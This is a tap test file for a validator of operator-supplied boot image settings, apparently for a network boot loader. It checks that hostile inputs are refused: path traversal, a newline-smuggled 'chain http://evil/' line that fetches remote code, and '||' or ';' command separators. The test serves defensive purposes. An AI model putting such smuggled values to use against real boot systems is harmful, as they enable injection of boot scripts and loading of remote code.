import t from 'tap';
import { type ImageSettings, readImageSettings } from '../../lib/images/image-settings.js';
import { shipped } from '../fixtures/systems.js';

const read = (parameters: Readonly<Record<string, string>>) => readImageSettings(parameters, shipped);

const understood: readonly (readonly [given: Readonly<Record<string, string>>, settings: ImageSettings])[] = [
  [{}, {}],
  [{ system: 'debian' }, { system: 'debian' }],
  [{ kernel: '/boot//./vmlinuz' }, { kernel: 'boot/vmlinuz' }],
  [{ initrd: '/a/initrd,b' }, { initrd: ['a/initrd', 'b'] }],
  [
    { args: ' console=ttyS0,115200 ks=http://h/${net0/mac} --- ' },
    { args: 'console=ttyS0,115200 ks=http://h/${net0/mac} ---' },
  ],
  [{ args: 'a;b "c d"' }, { args: 'a;b "c d"' }],
  [
    { system: '', kernel: '', initrd: '', args: '' },
    { system: undefined, kernel: undefined, initrd: undefined, args: undefined },
  ],
];

const refused: readonly (readonly [given: Readonly<Record<string, string>>, message: RegExp])[] = [
  [{ system: 'beos' }, /^system "beos" is unknown; allowed: alpine, arch, .*xenserver$/],
  [{ kernel: '../vmlinuz' }, /^kernel "\.\.\/vmlinuz" is not allowed: no way up$/],
  [{ kernel: '/' }, /^kernel "\/" is not allowed: it names a file$/],
  [{ kernel: 'a\nb' }, /no control characters$/],
  [{ initrd: 'a,' }, /^initrd "" is not allowed: it names a file$/],
  [
    { args: 'quiet\nchain http://evil/' },
    /^args "quiet\\nchain http:\/\/evil\/" is not allowed: one line, without control characters$/,
  ],
  [{ args: 'quiet\u2028x' }, /one line/],
  [{ args: 'quiet || shell' }, /no word that is \|\|, && or ;$/],
  [{ args: '; reboot' }, /no word that is/],
  [{ args: 'x'.repeat(2001) }, /at most 2000 characters$/],
];

t.test('what an operator says of the boot of an image is read and tidied', (t) => {
  for (const [given, settings] of understood) t.same(read(given), settings, JSON.stringify(given));
  t.end();
});

t.test('what would break a script of a boot loader, or lead out of the image, is refused by name', (t) => {
  for (const [given, message] of refused) {
    t.throws(() => read(given), { code: 'BAD_REQUEST', message }, String(message));
  }
  t.end();
});
